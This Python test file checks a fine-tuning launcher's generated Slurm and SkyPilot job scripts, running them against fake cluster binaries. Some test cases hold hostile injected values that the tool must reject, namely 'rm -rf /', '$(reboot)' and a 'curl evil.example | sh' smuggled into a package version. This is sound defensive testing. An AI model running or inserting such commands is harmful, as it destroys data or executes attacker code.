"""Job files: sbatch scripts and SkyPilot tasks. Scripts pass `bash -n` and shellcheck, and run
for real against a fake `srun`/`scontrol` and a fake `accelerate` that records the argv each
node would run (the environment check between the "nodes" is real)."""

from __future__ import annotations

import json
import os
import shutil
import socket
import stat
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from conftest import EXAMPLES, write
from helpers import run_cli

SHELLCHECK = (
    str(Path(sys.executable).parent / "shellcheck")
    if (Path(sys.executable).parent / "shellcheck").exists()
    else "shellcheck"
)
BIG = """\
task: sql
base_model: HuggingFaceTB/SmolLM2-135M-Instruct
datasets: [{path: data/sql.jsonl}]
compute: {target: h100-80gb, gpus_per_node: 8, nodes: 2, strategy: zero3}
"""

FAKE_SRUN = """\
#!{python}
# A fake srun: one task per node (SLURM_NODEID), concurrently, output per node (%n) appended.
import os, subprocess, sys
args = sys.argv[1:]
opts = {{}}
while args and args[0].startswith("--"):
    key, _, value = args.pop(0)[2:].partition("=")
    opts[key] = value
nodes = int(opts.get("nodes") or os.environ["SLURM_JOB_NUM_NODES"])
procs = []
for node in range(nodes):
    env = {{**os.environ, "SLURM_NODEID": str(node), "SLURM_PROCID": str(node), "SLURMD_NODENAME": f"node{{node}}"}}
    out = open(opts["output"].replace("%n", str(node)), "a") if "output" in opts else None
    procs.append(subprocess.Popen(args, env=env, stdout=out, stderr=subprocess.STDOUT))
sys.exit(max(p.wait() for p in procs))
"""
FAKE_ACCELERATE = """\
#!{python}
# A fake accelerate: records the argv and the environment it was started with, per node.
import json, os, sys
rank = os.environ.get("SLURM_NODEID", os.environ.get("SKYPILOT_NODE_RANK", "x"))
keep = {{k: v for k, v in os.environ.items() if k.startswith(("NCCL_", "TORCH_NCCL", "ACCELERATE_"))}}
with open(os.path.join({record!r}, f"accelerate-{{rank}}.json"), "w") as fh:
    json.dump({{"argv": sys.argv[1:], "env": keep}}, fh)
"""


def executable(path: Path, text: str) -> Path:
    write(path, text)
    path.chmod(path.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
    return path


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def fake_install(folder: Path, record: Path) -> Path:
    """A bin folder like an install of axowrap: the real python, a recording accelerate."""
    bindir = folder / "bin"
    executable(bindir / "python", f'#!/bin/sh\nexec {sys.executable} "$@"\n')
    executable(bindir / "accelerate", FAKE_ACCELERATE.format(python=sys.executable, record=str(record)))
    return bindir


def spec_in(folder: Path, text: str = BIG) -> Path:
    shutil.copytree(EXAMPLES / "data", folder / "data", dirs_exist_ok=True)
    return write(folder / "big.yaml", text)


def shellcheck(path: Path) -> None:
    subprocess.run(["bash", "-n", str(path)], check=True)
    res = subprocess.run([SHELLCHECK, "-s", "bash", str(path)], capture_output=True, text=True)
    assert res.returncode == 0, res.stdout + res.stderr


def expected_launch(run_dir: str, rank: int, main_ip: str, port: int) -> list[str]:
    return [
        "launch",
        "--config_file",
        f"{run_dir}/accelerate.yaml",
        "--machine_rank",
        str(rank),
        "--main_process_ip",
        main_ip,
        "--main_process_port",
        str(port),
        "-m",
        "axowrap.run.train_main",
        f"{run_dir}/axolotl.yaml",
        "--auto_resume_from_checkpoints=True",
    ]


def test_sbatch_script_options_and_lint(tmp_path: Path) -> None:
    spec = spec_in(tmp_path)
    out = tmp_path / "job.sbatch"
    res = run_cli(
        "launch",
        "slurm",
        str(spec),
        "-o",
        str(out),
        "--partition",
        "gpu",
        "--account",
        "ml-team",
        "--time",
        "2-00:00:00",
        "--runs-root",
        str(tmp_path / "runs"),
        "--env",
        "NCCL_SOCKET_IFNAME=ib0",
    )
    assert res.code == 0, res.err
    text = out.read_text()
    for line in (
        "#SBATCH --nodes=2",
        "#SBATCH --ntasks-per-node=1",
        "#SBATCH --gpus-per-node=8",
        "#SBATCH --time=2-00:00:00",
        "#SBATCH --partition=gpu",
        "#SBATCH --account=ml-team",
        "#SBATCH --requeue",
        f"#SBATCH --output={tmp_path / 'runs'}/slurm-big-%j.out",
        'export NCCL_SOCKET_IFNAME="${NCCL_SOCKET_IFNAME:-ib0}"',
        'export TORCH_NCCL_ASYNC_ERROR_HANDLING="${TORCH_NCCL_ASYNC_ERROR_HANDLING:-1}"',
    ):
        assert line in text.splitlines() or any(row.startswith(line) for row in text.splitlines()), line
    assert (tmp_path / "runs").is_dir()  # Slurm does not create the batch log's folder
    assert os.access(out, os.X_OK)
    shellcheck(out)
    cpu = spec_in(tmp_path / "cpu", BIG.replace("h100-80gb", "cpu").replace(", strategy: zero3", ""))
    run_cli("launch", "slurm", str(cpu), "-o", str(tmp_path / "cpu.sbatch"), "--runs-root", str(tmp_path / "runs"))
    cpu_text = (tmp_path / "cpu.sbatch").read_text()
    assert "--gpus-per-node" not in cpu_text and 'ACCELERATE_USE_CPU="${ACCELERATE_USE_CPU:-true}"' in cpu_text
    shellcheck(tmp_path / "cpu.sbatch")


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("--partition", "gpu; rm -rf /"), "--partition 'gpu; rm -rf /': Slurm names use"),
        (("--time", "tomorrow"), "--time 'tomorrow': use Slurm's format"),
        (("--env", "NCCL_DEBUG=$(reboot)"), "--env NCCL_DEBUG=$(reboot): use NAME=VALUE with a plain value"),
        # a trailing newline passed `$`-anchored checks and became a line of its own in the script
        (("--time", "24:00:00\n"), "--time '24:00:00\\n': use Slurm's format"),
        (("--env", "X\n=1"), "use NAME=VALUE with a plain value"),
        (("--env", "NCCL_DEBUG=INFO\n"), "use NAME=VALUE with a plain value"),
    ],
)
def test_sbatch_refuses_unsafe_values(tmp_path: Path, args: tuple[str, ...], message: str) -> None:
    spec = spec_in(tmp_path)
    res = run_cli("launch", "slurm", str(spec), "-o", str(tmp_path / "job.sbatch"), *args)
    assert res.code == 2
    assert message in res.err
    assert not (tmp_path / "job.sbatch").exists()


@pytest.mark.axolotl  # the environment check between the nodes imports torch
def test_sbatch_runs_one_accelerate_per_node_with_fake_srun(tmp_path: Path) -> None:
    spec = spec_in(tmp_path / "repo")
    runs = tmp_path / "runs"
    job = tmp_path / "job.sbatch"
    assert run_cli("launch", "slurm", str(spec), "-o", str(job), "--runs-root", str(runs)).code == 0
    record = tmp_path / "record"
    record.mkdir()
    fakebin = tmp_path / "fakebin"
    executable(fakebin / "srun", FAKE_SRUN.format(python=sys.executable))
    executable(fakebin / "scontrol", '#!/bin/sh\n[ "$1 $2" = "show hostnames" ] && printf "127.0.0.1\\nnode-b\\n"\n')
    port = free_port()
    env = {
        **os.environ,
        "PATH": f"{fakebin}{os.pathsep}{os.environ['PATH']}",
        "AXOWRAP_BIN": str(fake_install(tmp_path, record)),
        "SLURM_JOB_ID": "4242",
        "SLURM_JOB_NODELIST": "node-[a-b]",
        "SLURM_JOB_NUM_NODES": "2",
        "MAIN_PORT": str(port),
        "NCCL_DEBUG": "INFO",
    }
    runs_seen = []
    for _attempt in range(2):  # the second start is a requeue: same run directory, logs appended
        res = subprocess.run(["bash", str(job)], env=env, capture_output=True, text=True, timeout=300, cwd=tmp_path)
        assert res.returncode == 0, res.stdout + res.stderr
        runs_seen.append(res.stdout.split(" run ", 1)[1].split(",", 1)[0])
        assert f"main node 127.0.0.1:{port}" in res.stdout
    assert runs_seen[0] == runs_seen[1]
    run_dir = runs_seen[0]
    assert Path(run_dir).parent == runs
    for rank in (0, 1):
        seen = json.loads((record / f"accelerate-{rank}.json").read_text())
        assert seen["argv"] == expected_launch(run_dir, rank, "127.0.0.1", port)
        assert seen["env"]["NCCL_DEBUG"] == "INFO"  # the submitter's value wins
        assert seen["env"]["TORCH_NCCL_ASYNC_ERROR_HANDLING"] == "1"
        log = Path(run_dir, "logs", f"train-node{rank}.log").read_text()
        assert log.count(f"axowrap-envcheck: node {rank}/2: environments match") == 2
    acc = yaml.safe_load(Path(run_dir, "accelerate.yaml").read_text())
    assert (acc["num_machines"], acc["num_processes"]) == (2, 16)
    config = yaml.safe_load(Path(run_dir, "axolotl.yaml").read_text())
    assert Path(run_dir, config["deepspeed"]).is_file()  # named relative to the run directory


def skypilot_task(tmp_path: Path, *args: str) -> tuple[Path, dict]:
    spec = spec_in(tmp_path / "repo")
    out = tmp_path / "task.yaml"
    res = run_cli("launch", "skypilot", str(spec), "-o", str(out), *args)
    assert res.code == 0, res.err
    return out, yaml.safe_load(out.read_text())


def test_skypilot_task_shape(tmp_path: Path) -> None:
    _, task = skypilot_task(tmp_path, "--bucket", "team-runs", "--spot")
    assert task["num_nodes"] == 2
    assert task["resources"] == {"accelerators": "H100:8", "disk_size": 256, "use_spot": True}
    repo = tmp_path / "repo"
    assert task["file_mounts"]["/axowrap/job/big.yaml"] == str(repo / "big.yaml")
    assert task["file_mounts"]["/axowrap/job/data/sql.jsonl"] == str(repo / "data" / "sql.jsonl")
    assert task["file_mounts"]["/axowrap/runs"] == {"name": "team-runs", "mode": "MOUNT"}
    assert task["envs"]["AXOWRAP_SPEC"] == "/axowrap/job/big.yaml"
    assert all(isinstance(v, str) for v in task["envs"].values())  # SkyPilot's schema: envs are strings
    assert "torch==2.13.0" in task["setup"] and "'axowrap[train]==" in task["setup"]
    assert "SKYPILOT_NODE_RANK" in task["run"] and "SKYPILOT_NODE_IPS" in task["run"]
    for section in ("setup", "run"):
        script = write(tmp_path / f"{section}.sh", "#!/bin/bash\n" + task[section])
        shellcheck(script)


COMMIT = "0123456789abcdef0123456789abcdef01234567"
PACKAGES = {
    "axowrap": "0.1.0",
    "axolotl": "0.19.0",
    "transformers": "5.16.1",
    "peft": "0.20.0",
    "trl": "1.9.0",
    "accelerate": "1.13.0",
    "torch": "2.13.0",
}


def locked_repo(tmp_path: Path, packages: dict[str, str] = PACKAGES) -> Path:
    """repo/big.yaml (base model pinned by commit) and an axowrap.lock that matches it."""
    from axowrap.hashing import file_sha256

    repo = tmp_path / "repo"
    spec = spec_in(repo, BIG.replace("datasets:", f"revision: {COMMIT}\ndatasets:"))
    entry = {
        "base_model": {"id": "HuggingFaceTB/SmolLM2-135M-Instruct", "revision": COMMIT, "source": "spec"},
        "datasets": {"data/sql.jsonl": file_sha256(repo / "data" / "sql.jsonl")},
    }
    write(repo / "axowrap.lock", yaml.safe_dump({"version": 1, "specs": {"big.yaml": entry}, "packages": packages}))
    return spec


def test_skypilot_setup_installs_the_lock(tmp_path: Path) -> None:
    spec = locked_repo(tmp_path)
    out = tmp_path / "task.yaml"
    res = run_cli("launch", "skypilot", str(spec), "-o", str(out))
    assert res.code == 0, res.err
    task = yaml.safe_load(out.read_text())
    assert "pip install -q torch==2.13.0\n" in task["setup"]
    assert (
        "'axowrap[train]==0.1.0' accelerate==1.13.0 axolotl==0.19.0 peft==0.20.0 transformers==5.16.1 trl==1.9.0"
        in task["setup"]
    )


def test_launch_checks_the_lock_like_run_locked(tmp_path: Path) -> None:
    """`launch` never checked the lock: a job trained other data than was locked and reviewed."""
    spec = locked_repo(tmp_path)
    (spec.parent / "data" / "sql.jsonl").write_text('{"question": "q", "context": "c", "answer": "a"}\n' * 30)
    for kind, name in (("skypilot", "task.yaml"), ("slurm", "job.sbatch")):
        res = run_cli("launch", kind, str(spec), "-o", str(tmp_path / name))
        assert res.code == 1
        assert "big.yaml: dataset data/sql.jsonl: sha256 locked" in res.err and "drifted from" in res.err
        assert not (tmp_path / name).exists()


def test_a_crafted_lock_cannot_reach_the_setup_script(tmp_path: Path) -> None:
    spec = locked_repo(tmp_path, {**PACKAGES, "peft": "0.20.0; curl evil.example | sh"})
    res = run_cli("launch", "skypilot", str(spec), "-o", str(tmp_path / "task.yaml"))
    assert res.code == 2
    assert "packages.peft: '0.20.0; curl evil.example | sh' is not a package version" in res.err


@pytest.mark.axolotl  # the environment check between the nodes imports torch
def test_skypilot_run_section_on_two_fake_nodes(tmp_path: Path) -> None:
    _, task = skypilot_task(tmp_path)
    record = tmp_path / "record"
    record.mkdir()
    home = tmp_path / "home"
    fake_install(home / "axowrap-venv", record)
    run = write(tmp_path / "run.sh", "#!/bin/bash\n" + task["run"])
    port = free_port()
    # file_mounts, simulated: the spec is where the task's mounts would put it on each node.
    env = {
        **os.environ,
        **{k: str(v) for k, v in task["envs"].items()},
        "HOME": str(home),
        "MAIN_PORT": str(port),
        "AXOWRAP_SPEC": str(tmp_path / "repo" / "big.yaml"),
        "AXOWRAP_RUNS": str(tmp_path / "runs"),
        "SKYPILOT_NODE_IPS": "127.0.0.1\n10.0.0.2\n",
        "SKYPILOT_NUM_NODES": "2",
    }
    procs = [
        subprocess.Popen(
            ["bash", str(run)],
            env={**env, "SKYPILOT_NODE_RANK": str(rank)},
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
        )
        for rank in (0, 1)
    ]
    outs = [p.communicate(timeout=300)[0] for p in procs]
    assert [p.returncode for p in procs] == [0, 0], outs
    run_dir = outs[0].split(" run ", 1)[1].split(",", 1)[0]
    for rank in (0, 1):
        assert f"axowrap-envcheck: node {rank}/2: environments match" in outs[rank]
        seen = json.loads((record / f"accelerate-{rank}.json").read_text())
        assert seen["argv"] == expected_launch(run_dir, rank, "127.0.0.1", port)
        assert seen["env"]["NCCL_SOCKET_IFNAME"] == "^lo,docker0"


def test_prepare_reports_a_bad_spec_in_one_line(tmp_path: Path) -> None:
    spec = spec_in(tmp_path, BIG.replace("strategy: zero3", "strategy: zero4"))
    res = subprocess.run(
        [sys.executable, "-m", "axowrap", "_prepare", str(spec), "--runs-dir", str(tmp_path / "runs")],
        capture_output=True,
        text=True,
        cwd=tmp_path,
    )
    assert res.returncode == 1 and res.stdout == ""
    assert "compute.strategy" in res.stderr and "zero4" in res.stderr
    assert "Traceback" not in res.stderr
